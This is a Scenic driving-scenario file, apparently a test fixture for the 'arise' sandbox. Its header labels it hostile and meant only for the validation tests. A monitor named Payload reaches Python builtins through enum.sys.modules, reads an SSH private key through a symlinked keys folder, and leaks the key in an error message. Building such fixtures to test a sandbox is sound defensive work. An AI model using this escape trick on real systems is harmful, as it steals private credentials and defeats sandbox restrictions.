# Hostile test script for arise's sandbox: never run it outside tests/validate/test_hostile.py.
# symlink_ssh_dir (symlink): a symlinked folder beside the script (keys -> ~/.ssh of the fake home) read from a monitor.
# The payload runs inside a `monitor`, only once the simulation runs.
# @CANARY@, @SECRET@, @SSH_KEY@, @PORT@ ... are filled in by the test (see manifest.yaml).
Town = 'arise_straight'
param map = localPath(f'maps/{Town}.xodr')
param carla_map = Town
model scenic.simulators.carla.model
import enum
KEY = localPath('keys/id_rsa')

monitor Payload():
    key = enum.sys.modules['builtins'].open(KEY).read()
    raise RuntimeError('stolen key: ' + key)
    while True:
        wait

egoLane = Uniform(*network.lanes)
ego = new Car on egoLane.centerline, with blueprint "vehicle.lincoln.mkz_2017", with behavior FollowLaneBehavior(target_speed=8)
require monitor Payload()
